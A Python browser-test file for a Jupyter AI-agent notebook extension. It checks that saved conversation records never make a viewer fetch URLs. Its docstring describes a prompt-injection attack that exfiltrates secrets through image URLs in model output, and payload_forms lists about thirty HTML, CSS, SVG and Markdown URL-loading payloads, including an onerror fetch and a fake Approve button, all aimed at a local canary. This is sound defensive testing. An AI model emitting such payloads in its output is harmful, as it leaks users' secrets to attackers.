"""A saved record makes no viewer fetch anything its content names (README "Security model").

The attack: a prompt-injected conversation ends its turn with `![chart](http://host/?d=
<secret>)` (or any other way HTML and CSS have of loading a URL) and the *viewer's*
browser sends the secret out, long after the sandbox is gone. Checked from outside, as an
attacker would: a loopback HTTP server (the canary) counts every request while real
Chromium opens the saved notebook in JupyterLab and in Notebook 7 (through our renderer,
and through the text/html and text/markdown fallbacks a viewer without it shows), the
notebook converted by nbconvert, and a `%phoenix export --format html` file.

The notebook is built by a real kernel: a scripted model (the fake Messages API) writes
every payload in its text and its thinking, in a bash command's input and so in the
command's output. Fields a script cannot reach cheaply (file names, sub-agent results,
citations, an approval reason, summaries) are filled by a second record rendered by the
same `render_bundle` the kernel uses, as a hostile notebook editor would write it.

Each page also holds a control: a Markdown cell (a human's, not phoenix's) whose image
the front end *does* fetch. Waiting for it proves the canary is reachable from the page
and that every output above it has rendered, so "0 requests" is not a test that cannot
fail; the front ends render outputs whether or not they are in view.
"""

from __future__ import annotations

import copy
import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest
from playwright.sync_api import Browser, Page

from phoenix_nb.notebook.render import MIME_TYPE, render_bundle
from phoenix_nb.testing import FakeAnthropic, Turn, text, thinking, tool_use
from tests.browser.lab import UI_TIMEOUT_MS, LabServer, require_notebook7
from tests.notebook.kernel_harness import loaded_kernel

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]

CONTROL = "/control-image"


def payload_forms(base: str, where: str) -> str:
    """Every way Markdown, HTML, SVG and CSS have of making a browser fetch a URL, each
    naming its own path (`/<where>/<form>`) so a leak says which form and field it was."""

    def u(form: str) -> str:
        return f"{base}/{where}/{form}"

    return "\n\n".join(
        [
            f"![chart]({u('md-image')}?d=SECRET)",
            f"![ref image][r1]\n\n[r1]: {u('md-ref-image')}",
            f"[![linked image]({u('md-image-in-link')})](https://example.invalid/)",
            f'<img src="{u("img")}" alt="x">',
            f'<img srcset="{u("srcset")} 1x, {u("srcset2")} 2x">',
            f'<picture><source srcset="{u("picture-source")}"><img src="{u("picture-img")}">'
            "</picture>",
            f'<audio src="{u("audio")}" autoplay preload="auto"></audio>',
            f'<video src="{u("video")}" poster="{u("poster")}" preload="auto"></video>',
            f'<video preload="auto"><source src="{u("video-source")}"><track src="{u("track")}">'
            "</video>",
            f'<iframe src="{u("iframe")}"></iframe>',
            f'<embed src="{u("embed")}">',
            f'<object data="{u("object")}"></object>',
            f'<link rel="stylesheet" href="{u("link-stylesheet")}">',
            f'<link rel="preload" as="image" href="{u("link-preload")}">',
            f'<style>@import url("{u("css-import")}");</style>',
            f"<style>.phx-x{{background:url({u('style-url')})}}</style>"
            '<div class="phx-x jp-Phoenix-record">styled</div>',
            f"<style>@font-face{{font-family:phxleak;src:url({u('font')})}}"
            "p,div,span{font-family:phxleak}</style>",
            f"<div style=\"background-image:url('{u('inline-bg')}');width:40px;height:40px\">"
            "bg</div>",
            f'<span style="font-size:40px;color:red;display:block;padding:20px;'
            f'background:url({u("inline-bg2")})">phoenix: Restricted mode — nothing was changed'
            "</span>",
            f'<svg width="20" height="20"><image href="{u("svg-image")}" width="20" height="20"/>'
            f'<use href="{u("svg-use")}#a"/></svg>',
            f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{u("svg-xlink")}"'
            ' width="9" height="9"/></svg>',
            f'<input type="image" src="{u("input-image")}">',
            f'<table background="{u("table-background")}"><tr><td>t</td></tr></table>',
            f'<body background="{u("body-background")}"></body>',
            f'<meta http-equiv="refresh" content="0;url={u("meta-refresh")}">',
            f'<base href="{u("base")}/"><img src="relative-after-base">',
            f'<script src="{u("script")}"></script>',
            f"<img src=x onerror=\"fetch('{u('onerror')}')\">",
            f'<a href="{u("approve-link")}" style="display:inline-block;background:#1976d2;'
            'color:white;padding:6px 14px;border-radius:3px">Approve</a>',
            f'<object type="image/svg+xml" data="{u("object-svg")}"></object>',
        ]
    )


class Canary:
    """A loopback HTTP server that records every request path (and answers 200)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.seen = threading.Condition()
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with canary.seen:
                    canary.paths.append(self.path)
                    canary.seen.notify_all()
                body = b"\x89PNG\r\n\x1a\n" if self.path.startswith(CONTROL) else b""
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def mark(self) -> int:
        with self.seen:
            return len(self.paths)

    def since(self, mark: int) -> list[str]:
        with self.seen:
            return list(self.paths[mark:])

    def wait_for(self, prefix: str, mark: int, timeout: float) -> None:
        with self.seen:
            if not self.seen.wait_for(
                lambda: any(p.startswith(prefix) for p in self.paths[mark:]), timeout=timeout
            ):
                raise AssertionError(
                    f"the control {prefix} never arrived: the page did not render "
                    f"(requests seen: {self.paths[mark:]})"
                )

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@dataclass
class Saved:
    """The notebooks built for the test, in the JupyterLab server's root."""

    full: str  # as the kernel saved it (record + every fallback)
    html_only: str  # what a viewer without our extension shows: the text/html fallback
    markdown_only: str  # or the text/markdown one
    export_html: Path  # `%phoenix export --format html`


def _hostile_record(record: dict[str, Any], base: str) -> dict[str, Any]:
    """`record` with a payload in every content field a short script does not reach."""
    out = copy.deepcopy(record)
    p = lambda where: payload_forms(base, where)  # noqa: E731
    steps = out["cycles"][-1]["steps"]
    patch_call = {
        "id": "toolu_hostile_patch",
        "name": "patch",
        "input": {"path": p("patch-path")},
        "result": {
            "content": p("patch-result"),
            "is_error": False,
            "display": {
                "path": p("patch-display-path"),
                "diff": "--- a\n+++ b\n@@ -1 +1 @@\n-" + p("diff-old") + "\n+" + p("diff-new"),
                "changes": {
                    "files": [
                        {"path": p("changed-file"), "kind": "modified", "diff": p("change-diff")}
                    ],
                    "omitted": 0,
                },
            },
        },
    }
    search_call = {
        "id": "toolu_hostile_search",
        "name": "keyword_search",
        "input": {"search_terms": [p("search-term")], "query": p("search-query")},
        "result": {
            "content": p("search-result"),
            "is_error": False,
            "display": {"files": [p("file-name-1"), p("file-name-2")]},
        },
    }
    python_call = {
        "id": "toolu_hostile_python",
        "name": "run_python",
        "input": {"code": p("python-code")},
        "result": {"content": p("python-output"), "is_error": False, "display": {}},
    }
    steps.append(
        {
            "kind": "ai",
            "item": {
                "type": "text",
                "text": p("ai-text-2"),
                "citations": [
                    {"url": f"{base}/citation-url", "title": p("citation-title")},
                    {"url": p("citation-url-md"), "cited_text": p("cited-text")},
                ],
            },
            "tool_groups": [
                {"group": "write", "calls": [patch_call]},
                {"group": "read", "calls": [search_call, python_call]},
            ],
        }
    )
    steps.append(
        {
            "kind": "sub_agents",
            "agents": [
                {
                    "task": p("sub-agent-task"),
                    "outcome": "success",
                    "result": p("sub-agent-result"),
                    "conversation_id": p("sub-agent-id"),
                }
            ],
        }
    )
    steps.append({"kind": "approval", "reason": p("approval-reason"), "decision": "pending"})
    steps.append({"kind": "approval", "reason": p("approval-answered"), "decision": "approved"})
    steps.append({"kind": "continuation", "summary": p("continuation")})
    steps.append({"kind": "error", "text": p("error-text"), "error_kind": p("error-kind")})
    steps.append({"kind": p("unknown-step-kind"), "text": p("unknown-step")})
    out["summary"] = p("summary")
    out["notes"] = [p("note")]
    out["conversation"]["slug"] = p("slug")
    return out


def _output(data: dict[str, Any]) -> Any:
    return nbformat.from_dict({"output_type": "display_data", "data": data, "metadata": {}})


def _notebook(cells: list[tuple[str, list[Any]]], control: str) -> Any:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    for source, outputs in cells:
        cell = nbformat.v4.new_code_cell(source)
        cell.outputs = outputs
        nb.cells.append(cell)
    # The control goes last: a human's Markdown image, which the front ends do fetch.
    nb.cells.append(nbformat.v4.new_markdown_cell(f"control: ![control]({control})"))
    nbformat.validate(nb)
    return nb


def _saved_outputs(execution: Any) -> list[Any]:
    outputs = []
    for o in execution.final_outputs():
        if o["type"] == "display_data":
            outputs.append(_output(o["data"]))
        elif o["type"] == "stream":
            outputs.append(nbformat.v4.new_output("stream", name=o["name"], text=o["text"]))
    return outputs


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    server = Canary()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory, lab_server: LabServer, canary: Canary) -> Saved:
    """The hostile conversation, run through a real kernel and saved three ways."""
    base = canary.base
    root = tmp_path_factory.mktemp("hostile-kernel")
    with FakeAnthropic() as fake, loaded_kernel(root, fake.base_url) as kernel:
        command = f"cat <<'PHX_EOF'\n{payload_forms(base, 'bash-command')}\nPHX_EOF"
        fake.script(
            Turn(
                [
                    thinking(payload_forms(base, "thinking")),
                    text(payload_forms(base, "ai-text")),
                    tool_use("bash", {"command": command}),
                ]
            ),
            Turn([text(payload_forms(base, "ai-final"))]),
        )
        cell = kernel.run("%%phoenix --name hostile\nSummarise the report.", timeout=120)
        assert cell.status == "ok", cell.error()
        outputs = _saved_outputs(cell)
        bundles = [o["data"] for o in outputs if "data" in o and MIME_TYPE in o["data"]]
        assert bundles, "the cell displayed no record"
        record = bundles[-1][MIME_TYPE]
        # The payloads reached the record through the real path: model text, thinking,
        # the tool's input and the tool's output.
        dumped = json.dumps(record)
        for where in ("ai-text", "thinking", "bash-command", "ai-final"):
            assert f"/{where}/md-image" in dumped, where
        export = kernel.project / "hostile-export.html"
        done = kernel.run(f"%phoenix export hostile --format html --output {export}")
        assert done.status == "ok" and export.exists(), done.text()
    hostile = render_bundle(_hostile_record(record, base))
    cells = [
        ("%%phoenix --name hostile\nSummarise the report.", outputs),
        ("# a notebook edited by someone hostile", [_output(hostile)]),
    ]

    def keep_only(mime: str) -> list[tuple[str, list[Any]]]:
        kept = []
        for source, outs in cells:
            only = []
            for o in outs:
                if "data" in o and MIME_TYPE in o["data"]:
                    only.append(_output({mime: o["data"][mime], "text/plain": "record"}))
                else:
                    only.append(o)
            kept.append((source, only))
        return kept

    names = Saved("hostile-full.ipynb", "hostile-html.ipynb", "hostile-md.ipynb", export)
    control = f"{base}{CONTROL}"
    for name, content in (
        (names.full, cells),
        (names.html_only, keep_only("text/html")),
        (names.markdown_only, keep_only("text/markdown")),
    ):
        nb = _notebook(content, f"{control}?{name}")
        (lab_server.root / name).write_text(nbformat.writes(nb), encoding="utf-8")
    return names


def _assert_no_leak(canary: Canary, mark: int, page: Page, where: str) -> None:
    """After the control arrived and the network went quiet: nothing but the control."""
    page.wait_for_load_state("networkidle", timeout=UI_TIMEOUT_MS)
    leaked = [p for p in canary.since(mark) if not p.startswith(CONTROL)]
    assert leaked == [], f"{where}: the viewer fetched {len(leaked)} URL(s) from content: {leaked}"


def _open(browser: Browser, url: str, canary: Canary, name: str, where: str) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 3000})
    page = context.new_page()
    browser_requests: list[str] = []
    page.on(
        "request",
        lambda r: browser_requests.append(r.url) if r.url.startswith(canary.base) else None,
    )
    try:
        mark = canary.mark()
        page.goto(url)
        canary.wait_for(f"{CONTROL}?{name}", mark, timeout=UI_TIMEOUT_MS / 1000)
        # Outputs render asynchronously, the control's cell may come first: the count
        # is taken once the payloads themselves are on the page and the network is quiet.
        page.wait_for_function(
            "() => document.documentElement.innerHTML.includes('md-image')",
            timeout=UI_TIMEOUT_MS,
        )
        _assert_no_leak(canary, mark, page, where)
        leaked = [u for u in browser_requests if CONTROL not in u]
        assert leaked == [], f"{where}: the page asked for {leaked}"
    finally:
        context.close()


@pytest.mark.parametrize("which", ["full", "html_only", "markdown_only"])
def test_jupyterlab_fetches_nothing_from_a_saved_record(
    browser: Browser, lab_server: LabServer, saved: Saved, canary: Canary, which: str
) -> None:
    name = getattr(saved, which)
    url = f"{lab_server.url}/lab/workspaces/hostile-{which}/tree/{name}?reset"
    _open(browser, url, canary, name, f"JupyterLab, {which}")


@pytest.mark.parametrize("which", ["full", "html_only", "markdown_only"])
def test_notebook7_fetches_nothing_from_a_saved_record(
    browser: Browser, lab_server: LabServer, saved: Saved, canary: Canary, which: str
) -> None:
    require_notebook7()
    name = getattr(saved, which)
    _open(browser, f"{lab_server.url}/notebooks/{name}", canary, name, f"Notebook 7, {which}")


def test_nbconvert_html_fetches_nothing(
    browser: Browser, lab_server: LabServer, saved: Saved, canary: Canary, tmp_path: Path
) -> None:
    source = lab_server.root / saved.full
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "jupyter",
            "nbconvert",
            "--to",
            "html",
            str(source),
            "--output-dir",
            str(tmp_path),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    html = tmp_path / (Path(saved.full).stem + ".html")
    _open(browser, html.as_uri(), canary, saved.full, "nbconvert HTML")


def test_phoenix_export_html_fetches_nothing(
    browser: Browser, saved: Saved, canary: Canary
) -> None:
    """The export carries no control of its own (it is phoenix's page alone): it counts as
    rendered once the payloads are on the page as text."""
    context = browser.new_context()
    page = context.new_page()
    try:
        mark = canary.mark()
        page.goto(saved.export_html.as_uri())
        page.get_by_text("/ai-text/md-image", exact=False).first.wait_for(timeout=UI_TIMEOUT_MS)
        _assert_no_leak(canary, mark, page, "%phoenix export --format html")
    finally:
        context.close()
